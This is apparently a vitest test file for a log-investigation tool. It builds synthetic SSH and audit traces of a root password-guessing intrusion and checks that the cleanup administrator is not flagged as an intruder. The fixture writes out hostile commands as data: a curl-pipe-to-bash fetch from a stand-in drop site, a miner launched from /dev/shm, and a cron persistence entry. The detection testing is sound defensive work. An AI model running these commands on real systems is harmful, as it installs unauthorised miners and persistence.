import { describe, expect, it } from 'vitest'
import { audit, session, TRACES } from './evidence/administrator.ts'
import { AuditLog } from './evidence/audit-log.ts'
import { MINUTE, SECOND, START } from './evidence/case.ts'
import { type EvidenceFile, investigate } from './evidence/investigate.ts'
import { wallet } from './evidence/mining-wire.ts'
import { SshdLog } from './evidence/sshd-log.ts'
import { CLEANUPS, LOOK_ALIKES } from './look-alikes.cases.ts'

const ADMIN = '192.0.2.14'
const GUESSER = '203.0.113.77'
const DROP_SITE = '198.51.100.66'
const POOL = 'pool.monero-example.net:443'

describe.each(TRACES)('look-alikes of a fight, seen in %s only', (kind) => {
  it('make no incident, and nothing of medium or higher', async () => {
    const files = Object.entries(LOOK_ALIKES).map(([host, commands]) =>
      session(kind, { host, time: START, ip: ADMIN, commands }),
    )
    const { story, loose } = await investigate(files)
    expect(story.incidents.map(({ asset, title }) => [asset.names[0], title])).toEqual([])
    expect(loose.filter(({ severity }) => severity !== 'low' && severity !== 'info')).toEqual([])
    expect(story.attention.filter(({ severity }) => severity !== 'low' && severity !== 'info')).toEqual([])
  })
})

type Entry = 'guessed' | 'exploited'

/** Somebody mines from 06:10 on; at 08:00 the owner's administrator comes and clears it away. */
function minedAndCleaned(entry: Entry, commands: readonly string[]): EvidenceFile[] {
  const log = new SshdLog({ host: 'web-1' })
  const trail = new AuditLog({ path: 'web-1/audit.log', node: 'web-1' })
  const entered = START + 10 * MINUTE
  if (entry === 'guessed') {
    for (let at = 0; at < 60; at++) log.guess(START + at * 5 * SECOND, { user: 'root', ip: GUESSER })
    const server = log.login(entered, { user: 'root', ip: GUESSER }, { forMs: 5 * MINUTE })
    trail.loggedIn(entered, 'root', GUESSER, server, 7)
  }
  const doer =
    entry === 'guessed'
      ? { uid: 0, auid: 0, ses: 7, ppid: 5990 }
      : { uid: 0, auid: null, ses: null, ppid: 900 }
  const run = (second: number, args: readonly string[], more = {}): number =>
    trail.run(entered + second * SECOND, args, { ...doer, ...more })
  run(2, ['sh', '-c', `curl -s http://${DROP_SITE}/a.sh|bash`], { pid: 5995, exe: '/usr/bin/dash' })
  const curl = run(3, ['curl', '-s', '-o', '/dev/shm/.x', `http://${DROP_SITE}/x86`], { ppid: 5995 })
  trail.file(entered + 3300, 'create', '/dev/shm/.x', ['curl'], { ...doer, ppid: 5995, pid: curl })
  run(4, ['chmod', '+x', '/dev/shm/.x'], { ppid: 5995 })
  run(5, ['/dev/shm/.x', '-o', POOL, '-u', wallet(1), '--tls', '-k'], {
    exe: '/dev/shm/.x',
    pid: 6003,
    ppid: 5995,
  })
  run(8, ['bash', '-c', 'echo "*/10 * * * * root /dev/shm/.x" > /etc/cron.d/0kz'], { ppid: 5995 })
  trail.file(entered + 8100, 'create', '/etc/cron.d/0kz', ['bash'], { ...doer, ppid: 5995 })
  const cleaned = START + 120 * MINUTE
  const coming = { host: 'web-1', time: cleaned, ip: ADMIN, commands }
  log.login(cleaned, { user: 'maria', ip: ADMIN }, { by: 'publickey', forMs: 30 * MINUTE })
  audit(trail, coming)
  trail.run(cleaned + 60 * MINUTE, ['run-parts', '/etc/cron.hourly'], { uid: 0, auid: null, ses: null })
  return [log.file(), trail.written()]
}

describe.each(['guessed', 'exploited'] as const)('a miner that was %s in, and who cleans up', (entry) => {
  it.each(Object.entries(CLEANUPS))('%s: the administrator is no intruder', async (_name, commands) => {
    const { story } = await investigate(minedAndCleaned(entry, commands))
    const [incident] = story.incidents
    expect(story.incidents).toHaveLength(1)
    expect(incident?.occupants).toHaveLength(1)
    expect(incident?.changes).toEqual([])
    if (entry === 'guessed') expect(incident?.wayIn).toMatchObject({ srcIp: GUESSER, user: 'root' })
    else expect(incident?.wayIn?.srcIp ?? null).not.toBe(ADMIN)
    const text = JSON.stringify({ occupants: incident?.occupants, todo: incident?.todo })
    expect(text).not.toContain(ADMIN)
    expect(text).not.toContain('scan.sh')
  })
})
